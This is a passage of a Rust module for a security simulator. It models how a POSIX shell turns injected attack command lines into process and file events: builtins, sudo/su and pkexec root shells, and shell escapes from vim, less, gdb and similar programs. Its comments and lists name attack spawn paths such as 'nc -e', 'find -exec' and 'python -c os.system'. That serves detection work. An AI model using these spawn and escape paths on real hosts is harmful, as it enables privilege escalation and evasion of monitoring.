//! What a POSIX shell makes of a command line, as the kernel (and so the
//! collector) sees it: the programs it starts, which process each one's
//! parent is, and the files its redirections open.
//!
//! The attack injector (`eval`) and the simulator both turn command lines
//! into events through it, so an injected script looks like it would on a
//! real host:
//!
//! - every line of a multi-line script is its own command;
//! - builtins (`echo`, `cd`, `export`, `test`, `[` …) start no program, and
//!   their redirections are opened by the shell itself;
//! - `if`/`then`/`do` … keywords and comments start nothing;
//! - a redirection is opened by the forked child before it execs, so the
//!   open carries the shell's name;
//! - `sh -c '…'`, `sudo …`, `env …`, `nohup …`, `$(…)` and `` `…` `` start
//!   the programs they wrap, under the right parent.
//!
//! - variables the script assigns (`X=…`, `export X=…`) are expanded, an
//!   unquoted one split into words; single quotes and `\$` keep a `$`
//!   literal; `$(mktemp)` names a file under /tmp;
//! - what a program starts because its arguments say so (`find -exec`,
//!   `python -c 'os.system(…)'`, `nc -e`, vim's `:!` …) is in `starts`.
//!
//! It does not expand globs and does not run what a program starts from a
//! file or its configuration (`npm run`'s shell, a script's own lines).

use std::collections::HashMap;

use outlier_common::json::JsonEvent;

use crate::sim::{addresses, files, reported_open, temp_suffix};

mod starts;
use starts::Start;

/// One thing the kernel sees a command line cause.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Step {
    /// A program exec'd. Execs are numbered in order from 0.
    Exec {
        /// The exec that started its process; `None`: the shell the line
        /// runs in.
        parent: Option<usize>,
        /// The process whose program it replaces (`exec`, `env`, `nohup`,
        /// bash's `-c` of one command): it keeps that process's pid and
        /// parent. `Some(None)`: the line's shell.
        replaces: Option<Option<usize>>,
        /// Runs another program (`sh -c`, `sudo`, `env` …): the addresses and
        /// files its arguments name are that program's, not its own.
        wrapper: bool,
        /// Runs as root (`sudo`, `su`), whoever its parent runs as.
        as_root: bool,
        argv: Vec<String>,
    },
    /// A file opened by a redirection.
    Open {
        by: Opener,
        path: String,
        write: bool,
    },
}

/// Which process opens a redirection's file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Opener {
    /// The shell (exec number, `None` for the line's shell), for a builtin
    /// or a bare redirection.
    Shell(Option<usize>),
    /// The child forked for exec number `exec`, before it execs: its pid,
    /// the name of its shell (`shell`, as in `Shell`).
    Child { exec: usize, shell: Option<usize> },
}

/// The most programs one line may start (a runaway `$(…)` nest stays small).
const MAX_EXECS: usize = 64;
/// How deep `sh -c`, `sudo` and `$(…)` nest.
const MAX_DEPTH: usize = 6;

/// Builtins of dash and bash: they start no program.
const BUILTINS: &[&str] = &[
    ":", ".", "[", "[[", "alias", "bg", "break", "builtin", "cd", "command", "continue", "declare",
    "echo", "eval", "exit", "export", "false", "fg", "getopts", "hash", "history", "jobs", "kill",
    "let", "local", "popd", "printf", "pushd", "pwd", "read", "readonly", "return", "set", "shift",
    "source", "test", "times", "trap", "true", "type", "typeset", "ulimit", "umask", "unalias",
    "unset", "wait",
];

/// Words that open or close a compound command: they start no program.
const KEYWORDS: &[&str] = &[
    "if", "then", "elif", "else", "fi", "do", "done", "while", "until", "!", "{", "}", "time",
    "esac", "function",
];

/// Programs that exec their argument in the same process.
const SAME_PROCESS: &[&str] = &[
    "env",
    "nohup",
    "nice",
    "stdbuf",
    "setsid",
    "ionice",
    "chrt",
    "chroot",
    "setarch",
    "linux32",
    "linux64",
    "taskset",
    "prlimit",
    "nsenter",
    "pkexec",
    "unshare",
    "valgrind",
    "proxychains",
    "proxychains4",
    "torsocks",
    "numactl",
    "cgexec",
    "chpst",
    "setpriv",
    "ssh-agent",
    "choom",
    "softlimit",
    "setlock",
    "aa-exec",
    "ld.so",
    "ld-linux.so.2",
    "ld-linux-x86-64.so.2",
];

/// Programs that read commands from the terminal: the lines after them are
/// typed into them.
const INTERACTIVE: &[&str] = &[
    "ftp",
    "sftp",
    "gdb",
    "vi",
    "vim",
    "nvim",
    "rvim",
    "view",
    "less",
    "more",
    "man",
    "emacs",
    "joe",
    "nano",
    "pico",
    "ed",
    "jshell",
    "jjs",
    "asterisk",
    "ginsh",
    "mysql",
    "psql",
    "sqlite3",
    "irb",
    "telnet",
    "minicom",
    "opencode",
    "tclsh",
    "wish",
    "expect",
    "ghci",
    "lftp",
    "smbclient",
    "bconsole",
    "pry",
    "nsenter",
    "redis-cli",
    "mongo",
    "mongosh",
    "cqlsh",
    "gimp",
    "crash",
    "aria2c",
];

/// Programs that fork a child to run their argument.
const FORKING: &[&str] = &[
    "sudo",
    "doas",
    "timeout",
    "xargs",
    "watch",
    "flock",
    "strace",
    "ltrace",
    "time",
    "firejail",
    "fakeroot",
    "sshpass",
    "logsave",
    "perf",
    "faketime",
    "runuser",
    "rlwrap",
    "unbuffer",
    "dbus-run-session",
    "cpulimit",
    "multitime",
    "pexec",
    "distcc",
    "grc",
    "openvt",
    "pidstat",
];

/// Wrappers that start a shell when given no command (`sudo -s`, `chroot /`,
/// `unshare -r`).
const SHELL_BY_DEFAULT: &[&str] = &[
    "chroot", "setarch", "linux32", "linux64", "unshare", "nsenter", "pkexec", "fakeroot",
    "firejail", "runuser",
];

/// The most variables a script may set, and the longest value kept.
const MAX_VARS: usize = 256;
const MAX_VALUE: usize = 4096;
/// The most characters variable expansion may add to one line.
const MAX_EXPANSION: usize = 1 << 16;
/// Stands for a `$` the shell keeps literal (single quotes, `\$`) until
/// expansion is done.
const LITERAL_DOLLAR: char = '\u{E000}';

/// Shells whose `-c` argument is itself a script.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "busybox"];

/// The variables a shell session has set: a login shell keeps them from
/// one line to the next.
#[derive(Debug, Default, Clone)]
pub struct Vars(HashMap<String, String>);

/// The steps a command line causes in a shell.
pub fn expand(line: &str) -> Vec<Step> {
    expand_in(line, &mut Vars::default())
}

/// The steps a command line causes in a shell session with `vars` set; the
/// line's assignments are kept in `vars`.
pub fn expand_in(line: &str, vars: &mut Vars) -> Vec<Step> {
    let mut out = Out {
        vars: std::mem::take(vars),
        budget: MAX_EXPANSION,
        ..Out::default()
    };
    run_script(line, None, 0, &mut out);
    *vars = out.vars;
    out.steps
}

#[derive(Default)]
struct Out {
    steps: Vec<Step>,
    execs: usize,
    /// Each exec's program name and step.
    progs: Vec<String>,
    at: Vec<usize>,
    vars: Vars,
    /// What variable expansion may still add to the line.
    budget: usize,
    /// Temporary files `mktemp` has named.
    temps: u32,
}

impl Out {
    fn exec(
        &mut self,
        parent: Option<usize>,
        replaces: Option<Option<usize>>,
        argv: Vec<String>,
    ) -> usize {
        self.progs
            .push(basename(argv.first().map_or("", |a| a.as_str())).to_string());
        self.at.push(self.steps.len());
        self.steps.push(Step::Exec {
            parent,
            replaces,
            wrapper: false,
            as_root: false,
            argv,
        });
        self.execs += 1;
        self.execs - 1
    }
    fn flag(&mut self, exec: usize, wraps: bool, root: bool) {
        if let Some(Step::Exec {
            wrapper, as_root, ..
        }) = self.at.get(exec).and_then(|&i| self.steps.get_mut(i))
        {
            *wrapper |= wraps;
            *as_root |= root;
        }
    }
    fn wraps(&mut self, exec: usize) {
        self.flag(exec, true, false);
    }
    fn as_root(&mut self, exec: usize) {
        self.flag(exec, false, true);
    }
    fn full(&self) -> bool {
        self.execs >= MAX_EXECS
    }
    fn assign(&mut self, word: &str) {
        let Some((name, value)) = word.split_once('=') else {
            return;
        };
        if self.vars.0.len() >= MAX_VARS && !self.vars.0.contains_key(name) {
            return;
        }
        let mut value = value.to_string();
        if value.len() > MAX_VALUE {
            let mut end = MAX_VALUE;
            while !value.is_char_boundary(end) {
                end -= 1;
            }
            value.truncate(end);
        }
        self.vars.0.insert(name.to_string(), value);
    }
    /// The output of a command substitution, where it is known: the file
    /// `mktemp` makes, the path `which` prints.
    fn substituted(&mut self, cmd: &str) -> Option<String> {
        let ws = starts::split(cmd);
        match ws.iter().map(String::as_str).collect::<Vec<_>>().as_slice() {
            ["mktemp", ..] => {
                self.temps += 1;
                let suffix = temp_suffix(&format!("{cmd}{}", self.temps), 10);
                Some(format!("/tmp/tmp.{suffix}"))
            }
            ["which", p] | ["command", "-v", p] | ["type", "-p", p] if !p.contains('/') => {
                Some(format!("/usr/bin/{p}"))
            }
            _ => None,
        }
    }
    /// `text` with the session's variables expanded; unknown ones are left
    /// as written.
    fn expand_vars(&mut self, text: &str) -> String {
        let c: Vec<char> = text.chars().collect();
        let mut s = String::with_capacity(text.len());
        let mut i = 0;
        while i < c.len() {
            if c[i] != '$' {
                s.push(if c[i] == LITERAL_DOLLAR { '$' } else { c[i] });
                i += 1;
                continue;
            }
            // `${NAME}`, `${NAME:-default}`, or `$NAME`.
            let (name, default, end) = if c.get(i + 1) == Some(&'{') {
                let Some(close) = c[i + 2..].iter().position(|&x| x == '}') else {
                    s.push('$');
                    i += 1;
                    continue;
                };
                let inner: String = c[i + 2..i + 2 + close].iter().collect();
                // Only `${NAME:-d}` and `${NAME-d}` have a default; other
                // operators (`${V%-*}`) leave the text as written.
                let (name, default) = match inner.split_once(":-").or_else(|| inner.split_once('-'))
                {
                    Some((n, d)) if is_name(n) => (n.to_string(), Some(d.to_string())),
                    Some(_) => (String::new(), None),
                    None => (inner, None),
                };
                (name, default, i + 3 + close)
            } else {
                let n: String = c[i + 1..]
                    .iter()
                    .enumerate()
                    .take_while(|&(k, x)| {
                        *x == '_' || x.is_ascii_alphabetic() || (k > 0 && x.is_ascii_digit())
                    })
                    .map(|(_, x)| *x)
                    .collect();
                let end = i + 1 + n.chars().count();
                (n, None, end)
            };
            let value = self.vars.0.get(&name).cloned().or(default);
            match value {
                Some(v) if !name.is_empty() && v.len() <= self.budget => {
                    self.budget -= v.len();
                    s.push_str(&v);
                }
                _ => s.extend(
                    c[i..end]
                        .iter()
                        .map(|&x| if x == LITERAL_DOLLAR { '$' } else { x }),
                ),
            }
            i = end.max(i + 1);
        }
        s
    }
}

/// A word and the command substitutions inside it.
#[derive(Debug, Default, Clone)]
struct Word {
    text: String,
    subst: Vec<String>,
    /// Quoted somewhere (so `''` is a word, and `#` inside is not a comment).
    quoted: bool,
    /// Has an unquoted `$`: its expansion is split into words.
    bare: bool,
}

#[derive(Debug)]
enum Tok {
    Word(Word),
    /// `;`, `&&`, `||`, `|`, `&`, `(`, `)`: all end a simple command; the
    /// model runs every command of a list.
    Sep,
    /// The end of a line, which also ends a simple command.
    Newline,
    /// A redirection and its target (`None`: a descriptor dup or a here
    /// document).
    Redir {
        op: String,
        target: Option<Word>,
    },
}

fn lex(s: &str) -> Vec<Tok> {
    let c: Vec<char> = s.chars().collect();
    let mut toks = Vec::new();
    let mut w = Word::default();
    let mut in_word = false;
    let mut heredocs: Vec<(String, bool)> = Vec::new();
    let mut i = 0;
    // A line with a syntax error (`word(`, as in text typed into an
    // interactive program) runs nothing.
    let (mut line_start, mut bad) = (0, false);
    let end_word = |w: &mut Word, in_word: &mut bool, toks: &mut Vec<Tok>| {
        if *in_word {
            toks.push(Tok::Word(std::mem::take(w)));
            *in_word = false;
        }
    };
    while i < c.len() {
        let ch = c[i];
        match ch {
            '\n' => {
                end_word(&mut w, &mut in_word, &mut toks);
                if std::mem::take(&mut bad) {
                    toks.truncate(line_start);
                }
                toks.push(Tok::Newline);
                line_start = toks.len();
                i += 1;
                // Here documents' bodies are data, up to their delimiters.
                for (delim, strip) in heredocs.drain(..) {
                    while i < c.len() {
                        let eol = c[i..]
                            .iter()
                            .position(|&x| x == '\n')
                            .map_or(c.len(), |p| i + p);
                        let line: String = c[i..eol].iter().collect();
                        i = (eol + 1).min(c.len());
                        let line = if strip {
                            line.trim_start_matches('\t')
                        } else {
                            &line
                        };
                        if line.trim_end() == delim {
                            break;
                        }
                    }
                }
            }
            ' ' | '\t' | '\r' => {
                end_word(&mut w, &mut in_word, &mut toks);
                i += 1;
            }
            '#' if !in_word => {
                while i < c.len() && c[i] != '\n' {
                    i += 1;
                }
            }
            '\\' => {
                if c.get(i + 1) == Some(&'\n') {
                    i += 2;
                } else if let Some(&n) = c.get(i + 1) {
                    w.text.push(if n == '$' { LITERAL_DOLLAR } else { n });
                    in_word = true;
                    i += 2;
                } else {
                    i += 1;
                }
            }
            '\'' => {
                let close = c[i + 1..]
                    .iter()
                    .position(|&x| x == '\'')
                    .map_or(c.len(), |p| i + 1 + p);
                w.text.extend(
                    c[i + 1..close]
                        .iter()
                        .map(|&x| if x == '$' { LITERAL_DOLLAR } else { x }),
                );
                w.quoted = true;
                in_word = true;
                i = close + 1;
            }
            '"' => {
                i += 1;
                in_word = true;
                w.quoted = true;
                while i < c.len() && c[i] != '"' {
                    if c[i] == '\\' && i + 1 < c.len() && matches!(c[i + 1], '"' | '\\' | '$' | '`')
                    {
                        w.text.push(if c[i + 1] == '$' {
                            LITERAL_DOLLAR
                        } else {
                            c[i + 1]
                        });
                        i += 2;
                    } else if c[i] == '$' || c[i] == '`' {
                        i = substitution(&c, i, &mut w);
                    } else {
                        w.text.push(c[i]);
                        i += 1;
                    }
                }
                i += 1;
            }
            '$' | '`' => {
                in_word = true;
                w.bare |= ch == '$';
                i = substitution(&c, i, &mut w);
            }
            ';' | '(' | ')' => {
                bad |= ch == '(' && in_word && !is_assignment(&w.text);
                end_word(&mut w, &mut in_word, &mut toks);
                toks.push(Tok::Sep);
                i += 1;
            }
            '|' => {
                end_word(&mut w, &mut in_word, &mut toks);
                toks.push(Tok::Sep);
                i += if matches!(c.get(i + 1), Some('|' | '&')) {
                    2
                } else {
                    1
                };
            }
            '&' if c.get(i + 1) == Some(&'>') => {
                end_word(&mut w, &mut in_word, &mut toks);
                i = redirection(&c, i, &mut toks, &mut heredocs);
            }
            '&' => {
                end_word(&mut w, &mut in_word, &mut toks);
                toks.push(Tok::Sep);
                i += if c.get(i + 1) == Some(&'&') { 2 } else { 1 };
            }
            '<' | '>' => {
                // `2>`: the digits were a descriptor, not a word.
                if in_word
                    && !w.quoted
                    && w.subst.is_empty()
                    && w.text.chars().all(|d| d.is_ascii_digit())
                {
                    w = Word::default();
                    in_word = false;
                }
                end_word(&mut w, &mut in_word, &mut toks);
                i = redirection(&c, i, &mut toks, &mut heredocs);
            }
            _ => {
                w.text.push(ch);
                in_word = true;
                i += 1;
            }
        }
    }
    end_word(&mut w, &mut in_word, &mut toks);
    if bad {
        toks.truncate(line_start);
    }
    toks
}

/// Reads a `$(…)`, `` `…` ``, `$((…))` or `${…}` at `i` into `w`; returns
/// the index after it. The text is kept as written.
fn substitution(c: &[char], i: usize, w: &mut Word) -> usize {
    if c[i] == '`' {
        let close = c[i + 1..]
            .iter()
            .position(|&x| x == '`')
            .map_or(c.len(), |p| i + 1 + p);
        let inner: String = c[i + 1..close].iter().collect();
        w.text.push('`');
        w.text.push_str(&inner);
        w.text.push('`');
        w.subst.push(inner);
        return close + 1;
    }
    let (open, close) = match c.get(i + 1) {
        Some('(') => ('(', ')'),
        Some('{') => ('{', '}'),
        _ => {
            w.text.push('$');
            return i + 1;
        }
    };
    let arithmetic = open == '(' && c.get(i + 2) == Some(&'(');
    let mut depth = 0usize;
    let mut j = i + 1;
    let (mut sq, mut dq) = (false, false);
    while j < c.len() {
        match c[j] {
            '\'' if !dq => sq = !sq,
            '"' if !sq => dq = !dq,
            '\\' if !sq => j += 1,
            x if x == open && !sq && !dq => depth += 1,
            x if x == close && !sq && !dq => {
                depth -= 1;
                if depth == 0 {
                    break;
                }
            }
            _ => {}
        }
        j += 1;
    }
    // Unterminated: the rest of the line.
    let j = j.min(c.len());
    let text: String = c[i..(j + 1).min(c.len())].iter().collect();
    if open == '(' && !arithmetic {
        w.subst.push(c[(i + 2).min(j)..j].iter().collect());
    }
    w.text.push_str(&text);
    j + 1
}

/// Reads a redirection operator at `i` and its target; returns the index
/// after them.
fn redirection(
    c: &[char],
    mut i: usize,
    toks: &mut Vec<Tok>,
    heredocs: &mut Vec<(String, bool)>,
) -> usize {
    let mut op = String::new();
    while i < c.len() && matches!(c[i], '<' | '>' | '&' | '|' | '-') && op.len() < 3 {
        // `-` only in `<<-` and `>&-`.
        if c[i] == '-' && !(op == "<<" || op.ends_with('&')) {
            break;
        }
        op.push(c[i]);
        i += 1;
    }
    // `>&2`, `2>&1`, `<&0`, `>&-`: a descriptor dup, no file.
    if op.ends_with('&') || op.ends_with("&-") {
        let digits = c[i..].iter().take_while(|d| d.is_ascii_digit()).count();
        if digits > 0 || op.ends_with('-') {
            toks.push(Tok::Redir { op, target: None });
            return i + digits;
        }
    }
    while i < c.len() && matches!(c[i], ' ' | '\t') {
        i += 1;
    }
    // The target is the next word.
    let mut sub = lex_one_word(&c[i..]);
    i += sub.1;
    if op.starts_with("<<") && op != "<<<" {
        heredocs.push((sub.0.text.replace(LITERAL_DOLLAR, "$"), op == "<<-"));
        toks.push(Tok::Redir { op, target: None });
    } else {
        sub.0.text = sub.0.text.trim().to_string();
        toks.push(Tok::Redir {
            op,
            target: Some(sub.0),
        });
    }
    i
}

/// The first word of `c` and how many characters it took.
fn lex_one_word(c: &[char]) -> (Word, usize) {
    let mut end = 0;
    let (mut sq, mut dq) = (false, false);
    while end < c.len() {
        match c[end] {
            '\'' if !dq => sq = !sq,
            '"' if !sq => dq = !dq,
            '\\' if !sq => end += 1,
            x if !sq
                && !dq
                && (x.is_whitespace() || matches!(x, ';' | '|' | '&' | '<' | '>' | '(' | ')')) =>
            {
                break;
            }
            _ => {}
        }
        end += 1;
    }
    let end = end.min(c.len());
    let text: String = c[..end].iter().collect();
    let word = match lex(&text).into_iter().next() {
        Some(Tok::Word(w)) => w,
        _ => Word::default(),
    };
    (word, end)
}

/// Runs a script in the shell `shell` (an exec number; `None`: the line's).
fn run_script(script: &str, shell: Option<usize>, depth: usize, out: &mut Out) {
    if depth > MAX_DEPTH {
        return;
    }
    let mut words: Vec<Word> = Vec::new();
    let mut redirs: Vec<(String, Option<Word>)> = Vec::new();
    let mut in_case = false;
    let mut in_for = false;
    // The last program started on this line, and the interactive program
    // later lines are typed into.
    let (mut line_last, mut typed_into, mut eol): (Option<usize>, Option<usize>, bool) =
        (None, None, false);
    let toks = lex(script);
    let n = toks.len();
    for (k, tok) in toks.into_iter().enumerate() {
        let end = match tok {
            Tok::Word(w) => {
                words.push(w);
                k + 1 == n
            }
            Tok::Redir { op, target } => {
                redirs.push((op, target));
                k + 1 == n
            }
            Tok::Sep => true,
            Tok::Newline => {
                eol = true;
                true
            }
        };
        if !end {
            continue;
        }
        let mut ws = std::mem::take(&mut words);
        let rs = std::mem::take(&mut redirs);
        if out.full() {
            return;
        }
        let before = out.execs;
        // What follows an interactive program's line is typed into it, not
        // into the shell; only its shell escape (`!cmd`, `:!cmd`) runs
        // something, in a shell of its own.
        if let Some(program) = typed_into {
            if let Some(cmd) = shell_escape(&ws) {
                let sh = out.exec(
                    Some(program),
                    None,
                    vec!["sh".into(), "-c".into(), cmd.clone()],
                );
                out.wraps(sh);
                run_script(&cmd, Some(sh), depth + 1, out);
            }
            continue;
        }
        // Keywords start nothing (`then for …`, `do case …`).
        let lead = ws
            .iter()
            .take_while(|w| !w.quoted && KEYWORDS.contains(&w.text.as_str()))
            .count();
        ws.drain(..lead);
        // `case … esac` and `for … in …` headers run nothing themselves.
        if in_case {
            in_case = !ws.iter().any(|w| !w.quoted && w.text == "esac");
            continue;
        }
        if ws.first().is_some_and(|w| !w.quoted && w.text == "case") {
            in_case = !ws.iter().any(|w| !w.quoted && w.text == "esac");
            continue;
        }
        if in_for
            || ws
                .first()
                .is_some_and(|w| !w.quoted && matches!(w.text.as_str(), "for" | "select"))
        {
            // The header ends at `do`, which may follow on the same line.
            in_for = true;
            if let Some(p) = ws.iter().position(|w| !w.quoted && w.text == "do") {
                in_for = false;
                if simple(ws[p + 1..].to_vec(), rs, shell, depth, out) == Ran::Replaced {
                    return;
                }
            } else {
                for w in &ws {
                    for s in &w.subst {
                        run_script(s, shell, depth + 1, out);
                    }
                }
            }
            continue;
        }
        if simple(ws, rs, shell, depth, out) == Ran::Replaced {
            // `exec prog`: the shell is gone; nothing after it runs.
            return;
        }
        if out.execs > before {
            line_last = Some(out.execs - 1);
        }
        if std::mem::take(&mut eol) {
            typed_into = line_last
                .take()
                .filter(|&e| INTERACTIVE.contains(&out.progs[e].as_str()) && out.execs == e + 1);
        }
    }
}

/// The command of a shell escape typed into an interactive program.
fn shell_escape(ws: &[Word]) -> Option<String> {
    let first = ws.first()?;
    let t = first.text.trim_start_matches(':').trim_start_matches("^K");
    let rest = t.strip_prefix('!')?;
    let mut cmd: Vec<&str> = vec![rest];
    cmd.extend(ws[1..].iter().map(|w| w.text.as_str()));
    let cmd = cmd.join(" ").trim().replace(LITERAL_DOLLAR, "$");
    (!cmd.is_empty()).then_some(cmd)
}

/// What a simple command did to its shell.
#[derive(Debug, PartialEq, Eq)]
enum Ran {
    /// Ran (or started nothing); the shell goes on.
    Done,
    /// `exec prog`: the shell's process became prog.
    Replaced,
}

/// One simple command in `shell`.
fn simple(
    ws: Vec<Word>,
    rs: Vec<(String, Option<Word>)>,
    shell: Option<usize>,
    depth: usize,
    out: &mut Out,
) -> Ran {
    command(ws, rs, shell, false, depth, out)
}

/// A simple command in `shell`; `replace`: it execs in the shell's own
/// process (`exec prog`, bash's `-c` with one command), not in a child.
fn command(
    mut ws: Vec<Word>,
    mut rs: Vec<(String, Option<Word>)>,
    shell: Option<usize>,
    replace: bool,
    depth: usize,
    out: &mut Out,
) -> Ran {
    if depth > MAX_DEPTH || out.full() {
        return Ran::Done;
    }
    // Command substitutions run first, in subshells of this shell; the
    // command's arguments carry their output where it is known (`mktemp`'s
    // file), else nothing.
    for w in ws
        .iter_mut()
        .chain(rs.iter_mut().filter_map(|(_, t)| t.as_mut()))
    {
        let saved = out.vars.clone();
        for s in &w.subst {
            run_script(s, shell, depth + 1, out);
        }
        out.vars = saved;
        for s in std::mem::take(&mut w.subst) {
            let output = out.substituted(&s).unwrap_or_default();
            w.text = w.text.replacen(&format!("$({s})"), &output, 1).replacen(
                &format!("`{s}`"),
                &output,
                1,
            );
        }
    }
    // Then variables; an unquoted one's value is split into words.
    let mut expanded = Vec::with_capacity(ws.len());
    for w in ws {
        let text = out.expand_vars(&w.text);
        if w.bare && !w.quoted && text != w.text && !is_assignment(&w.text) {
            expanded.extend(text.split_whitespace().map(|t| Word {
                text: t.to_string(),
                ..Word::default()
            }));
        } else {
            expanded.push(Word { text, ..w });
        }
    }
    let mut ws = expanded;
    for t in rs.iter_mut().filter_map(|(_, t)| t.as_mut()) {
        t.text = out.expand_vars(&t.text);
    }
    // Keywords and assignments before the command; alone, the assignments
    // set the shell's variables.
    let lead = ws
        .iter()
        .take_while(|w| {
            (!w.quoted && KEYWORDS.contains(&w.text.as_str())) || is_assignment(&w.text)
        })
        .count();
    let assignments: Vec<Word> = ws.drain(..lead).collect();
    if ws.is_empty() {
        for a in assignments.iter().filter(|w| is_assignment(&w.text)) {
            out.assign(&a.text);
        }
    }
    command_words(ws, rs, shell, replace, depth, out)
}

/// A simple command whose words are expanded.
fn command_words(
    ws: Vec<Word>,
    rs: Vec<(String, Option<Word>)>,
    shell: Option<usize>,
    replace: bool,
    depth: usize,
    out: &mut Out,
) -> Ran {
    if depth > MAX_DEPTH || out.full() {
        return Ran::Done;
    }
    let opens = |by: Opener, out: &mut Out| {
        for (op, t) in &rs {
            let Some(t) = t else { continue };
            if op == "<<<" || t.text.is_empty() {
                continue;
            }
            let write = op.contains('>');
            out.steps.push(Step::Open {
                by,
                path: t.text.clone(),
                write,
            });
        }
    };
    // `!cmd` typed at a shell prompt is not a command (`!` alone negates).
    if ws
        .first()
        .is_some_and(|w| !w.quoted && w.text.len() > 1 && w.text.starts_with('!'))
    {
        return Ran::Done;
    }
    let Some(first) = ws.first() else {
        opens(Opener::Shell(shell), out);
        return Ran::Done;
    };
    // An unexpanded variable as the program: which program is unknown.
    if first.text.starts_with('$') || first.text.is_empty() {
        return Ran::Done;
    }
    let prog = basename(&first.text).to_string();
    if prog == "exec" && !first.text.contains('/') {
        // `exec >file`: the shell's own descriptors.
        opens(Opener::Shell(shell), out);
        if ws.len() == 1 {
            return Ran::Done;
        }
        command_words(ws[1..].to_vec(), Vec::new(), shell, true, depth + 1, out);
        return Ran::Replaced;
    }
    if BUILTINS.contains(&prog.as_str()) && !first.text.contains('/') {
        opens(Opener::Shell(shell), out);
        match prog.as_str() {
            "eval" => {
                let s: Vec<&str> = ws[1..].iter().map(|w| w.text.as_str()).collect();
                run_script(&s.join(" "), shell, depth + 1, out);
            }
            // `command ls`: runs ls.
            "command" | "builtin" if ws.len() > 1 && !ws[1].text.starts_with('-') => {
                return command_words(ws[1..].to_vec(), Vec::new(), shell, replace, depth + 1, out);
            }
            "export" | "readonly" | "local" | "declare" | "typeset" => {
                for w in ws[1..].iter().filter(|w| is_assignment(&w.text)) {
                    out.assign(&w.text);
                }
            }
            "unset" => {
                for w in &ws[1..] {
                    out.vars.0.remove(&w.text);
                }
            }
            _ => {}
        }
        return Ran::Done;
    }
    let argv: Vec<String> = ws.iter().map(|w| w.text.clone()).collect();
    let me = if replace {
        // No fork: the shell's process opens the redirections, then execs.
        opens(Opener::Shell(shell), out);
        out.exec(shell, Some(shell), argv.clone())
    } else {
        // The child is forked before it execs: its opens come first.
        opens(
            Opener::Child {
                exec: out.execs,
                shell,
            },
            out,
        );
        out.exec(shell, None, argv.clone())
    };
    wrapped(&argv, me, depth, out);
    Ran::Done
}

/// What a program that runs another one starts: `sh -c`'s script, `sudo`'s
/// command, `env`'s program.
fn wrapped(argv: &[String], me: usize, depth: usize, out: &mut Out) {
    // What a program runs is in processes of its own: the variables they
    // set are not this shell's.
    let saved = out.vars.clone();
    wrapped_in(argv, me, depth, out);
    out.vars = saved;
}

fn wrapped_in(argv: &[String], me: usize, depth: usize, out: &mut Out) {
    if depth > MAX_DEPTH || out.full() {
        return;
    }
    let mut argv = argv;
    let prog = basename(&argv[0]);
    if prog == "busybox" && argv.len() > 1 {
        argv = &argv[1..];
    }
    let prog = basename(&argv[0]);
    if SHELLS.contains(&prog) {
        let script = argv
            .iter()
            .position(|a| {
                a == "-c"
                    || (a.starts_with('-')
                        && !a.starts_with("--")
                        && a.ends_with('c')
                        && a.len() <= 4)
            })
            .and_then(|p| argv.get(p + 1));
        if let Some(script) = script {
            out.wraps(me);
            // bash (not dash) runs a `-c` of one simple command in its own
            // process.
            match one_command(script).filter(|_| prog != "sh" && prog != "dash" && prog != "ash") {
                Some((ws, rs)) => {
                    command(ws, rs, Some(me), true, depth + 1, out);
                }
                None => run_script(script, Some(me), depth + 1, out),
            }
        }
        return;
    }
    // `su [-] [user] -c cmd`: su forks the user's shell to run it; without
    // `-c`, the shell itself.
    if prog == "su" || prog == "runuser" {
        let (cmd, user) = su_args(&argv[1..]);
        let root = user.as_deref().is_none_or(|u| u == "root" || u == "0");
        let shell = match cmd {
            Some(cmd) => vec!["bash".into(), "-c".into(), cmd],
            // runuser's `-u user cmd` is a command of its own.
            None if prog == "su" || !argv.iter().any(|a| a == "-u" || a == "--user") => {
                vec!["bash".into()]
            }
            None => Vec::new(),
        };
        if !shell.is_empty() {
            out.wraps(me);
            let sh = out.exec(Some(me), None, shell.clone());
            if root {
                out.as_root(sh);
            }
            wrapped(&shell, sh, depth + 1, out);
            return;
        }
    }
    // `watch cmd …` and `flock f -c cmd` run their command through `sh -c`.
    let through_sh = match prog {
        "watch" if !argv.iter().any(|a| a == "-x" || a == "--exec") => {
            Some(inner_command(prog, &argv[1..]).join(" "))
        }
        "flock" => argv
            .iter()
            .position(|a| a == "-c" || a == "--command")
            .and_then(|p| argv.get(p + 1).cloned()),
        _ => None,
    };
    if let Some(cmd) = through_sh {
        if !cmd.is_empty() {
            out.wraps(me);
            let sh = out.exec(Some(me), None, vec!["sh".into(), "-c".into(), cmd.clone()]);
            out.wraps(sh);
            run_script(&cmd, Some(sh), depth + 1, out);
        }
        return;
    }
    // `unshare -f` forks, and nsenter into a pid namespace (`-p`, `-a`)
    // unless `-F`; else they exec in place.
    let short = |f: char| {
        argv[1..]
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains(f))
    };
    let forks = match prog {
        "unshare" => short('f') || argv.iter().any(|a| a == "--fork"),
        "nsenter" => {
            (short('p')
                || short('a')
                || argv.iter().any(|a| a.starts_with("--pid") || a == "--all"))
                && !(short('F') || argv.iter().any(|a| a == "--no-fork"))
        }
        _ => false,
    };
    let same = SAME_PROCESS.contains(&prog) && !forks;
    if !same && !forks && !FORKING.contains(&prog) {
        started(argv, me, depth, out);
        return;
    }
    let mut inner = inner_command(prog, &argv[1..]);
    let root_shell = matches!(prog, "sudo" | "doas")
        && argv[1..]
            .iter()
            .take_while(|a| a.starts_with('-'))
            .any(|a| matches!(a.as_str(), "-s" | "-i" | "--shell" | "--login"));
    // `--help`, `--version`, `--list` start nothing.
    let info = argv[1..].iter().any(|a| {
        matches!(
            a.as_str(),
            "-h" | "--help" | "-V" | "--version" | "--list" | "-l" | "--tree"
        )
    });
    if inner.is_empty() && !info && (root_shell || SHELL_BY_DEFAULT.contains(&prog)) {
        inner = vec![if root_shell { "bash" } else { "sh" }.to_string()];
    }
    if inner.is_empty() {
        return;
    }
    out.wraps(me);
    let id = if same {
        out.exec(None, Some(Some(me)), inner.clone())
    } else {
        out.exec(Some(me), None, inner.clone())
    };
    let user = argv
        .iter()
        .position(|a| a == "-u")
        .and_then(|p| argv.get(p + 1))
        .map_or("root", |u| u.as_str());
    if (matches!(prog, "sudo" | "doas") && (user == "root" || user == "0"))
        || (prog == "pkexec" && !argv.iter().any(|a| a == "--user"))
    {
        out.as_root(id);
    }
    wrapped(&inner, id, depth + 1, out);
}

/// su's and runuser's command (`-c cmd`, `-lc cmd`, `--command=cmd`) and
/// user (the first word that is not an option or an option's value).
